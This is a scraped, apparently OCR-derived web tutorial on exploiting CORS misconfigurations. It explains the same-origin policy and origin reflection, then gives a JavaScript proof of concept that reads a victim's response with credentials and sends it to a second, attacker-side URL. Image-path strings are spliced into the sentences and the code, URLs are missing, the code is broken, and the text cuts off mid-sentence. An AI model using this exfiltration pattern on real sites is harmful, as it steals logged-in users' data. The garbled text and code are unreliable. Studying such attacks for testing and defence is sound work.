Skip to content


  • Cross origin resource sharing
  • This can used to retrieve data from API/websites which shouldn't be able to access the legit website.
  • Meaning an attacker might be able to show some data with some evil stuff on/from the legit website.

What is SOP?

Same origin policy prevents:

  • JavaScript on Site A from reading the cookies of Site B.
  • JavaScript on Site A from reading the content of Site B.

The browser will send a request with an Origin header and the server can decide whether or not it should allow this request. The server can allow the browser to make CORS request by responding with the header Access-Control-Allow-Origin: and a list of hostnames. By default, the browserwill send unauthenticated requests unless the server told it not to using Access-Control-Allow-Credentials: true.

But the vulnerability arises when server respond with Access-Control-Allow-Origin: *

  • Sometime whathappens that websites return the origin header as the Access-Control-Allow-Origin, because simplicity developer had decided to not maintain any white list.


So test with the headers and see if you can get the server to display your []( in the Access-Control-Allow-Origin header.

            var xhr = new XMLHttpRequest();
  "POST", "", false);
            xhr.withCredentials = true;var a=xhr.responseText;

            var xhr2= new XMLHttpRequest();
  "GET", ""+a,false);This is the example in which we